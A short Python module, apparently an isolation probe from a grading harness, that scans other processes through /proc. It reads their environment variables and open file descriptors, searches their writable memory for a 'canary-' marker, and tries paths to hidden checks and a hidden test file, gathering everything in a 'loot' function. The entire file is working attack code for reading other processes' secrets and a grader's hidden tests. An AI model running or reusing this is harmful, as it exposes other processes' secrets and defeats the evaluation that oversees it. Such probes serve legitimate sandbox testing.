"""Read the memory, the environment or the open files of the grader, of the zygote, or of another process.

base: right
holds from: UID
"""

import os

PIECE = 1 << 20
DONE = []


def _pids():
    near = range(max(2, os.getppid() - 3), os.getppid() + 4)
    try:
        listed = [int(name) for name in os.listdir("/proc") if name.isdigit()]
    except OSError:
        listed = []
    return [os.getppid(), BYSTANDER, *near, *listed[:300]]


def _memory(pid):
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
        for line in maps:
            if "rw-p" in line:
                start, end = (int(part, 16) for part in line.split()[0].split("-"))
                memory.seek(start)
                text = memory.read(min(end - start, PIECE)).decode("latin-1")
                at = text.find("can" + "ary-")
                if at >= 0:
                    return text[at : at + 100]
    return ""


def _of(pid):
    for read in (
        lambda: open(f"/proc/{pid}/environ", "rb").read().decode("latin-1"),
        lambda: _memory(pid),
        lambda: "".join(open(f"/proc/{pid}/fd/{fd}").read(4096) for fd in range(3, 12)),
        lambda: open(f"/proc/{pid}/root{SECRETS['hidden_checks']}").read(),
        lambda: open(f"/proc/{pid}/cwd/course/solutions/target/test_hidden.py").read(),
    ):
        try:
            yield read()
        except (OSError, ValueError, OverflowError):
            pass


def loot():
    return [text for pid in dict.fromkeys(_pids()) if pid != os.getpid() for text in _of(pid) if text]
